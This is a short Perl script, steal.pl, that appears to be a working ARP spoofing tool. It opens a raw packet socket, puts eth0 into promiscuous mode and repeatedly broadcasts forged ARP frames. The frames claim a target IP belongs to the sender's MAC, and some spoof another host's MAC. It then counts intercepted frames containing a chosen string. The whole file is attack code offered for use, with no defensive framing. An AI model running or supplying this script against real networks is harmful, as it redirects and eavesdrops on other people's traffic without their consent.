# steal.pl SECONDS ADDRESS MAC GATEWAY TEXT: says to everybody that ADDRESS and MAC live here, and counts what then comes
# that holds TEXT.
use strict;
use Socket;
my ($seconds, $address, $mac, $gateway, $text) = @ARGV;
sub bytes { pack('C6', map { hex } split /:/, $_[0]) }
sub read_line { open(my $file, '<', $_[0]) or die "$_[0]: $!"; my $line = <$file>; chomp $line; $line }
my $own = bytes(read_line('/sys/class/net/eth0/address'));
my $theirs = bytes($mac);
my $index = read_line('/sys/class/net/eth0/ifindex');
my $all = "\xff" x 6;
socket(my $wire, 17, SOCK_RAW, 0x0300) or die "no packet socket: $!";
my $here = pack('SnlSCCa8', 17, 3, $index, 0, 0, 6, $all);
bind($wire, $here) or die "not bound: $!";
system('ip', 'link', 'set', 'eth0', 'promisc', 'on');
sub arp {
  my ($from, $operation, $holder, $about, $target) = @_;
  return $all . $from . pack('n', 0x0806) . pack('nnCCn', 1, 0x0800, 6, 4, $operation)
    . $holder . inet_aton($about) . $all . inet_aton($target);
}
my $caught = 0;
for (my $end = time + $seconds; time < $end;) {
  for my $frame (arp($own, 2, $own, $address, $gateway), arp($own, 1, $own, $address, $address),
    arp($theirs, 2, $theirs, $address, $gateway), arp($theirs, 1, $own, $address, $gateway)) {
    send($wire, $frame, 0, $here);
  }
  for (1 .. 50) {
    my $ready = '';
    vec($ready, fileno($wire), 1) = 1;
    last unless select($ready, undef, undef, 0.01);
    recv($wire, my $frame, 4096, 0);
    $caught++ if index($frame, $text) >= 0;
  }
}
print "$caught\n";
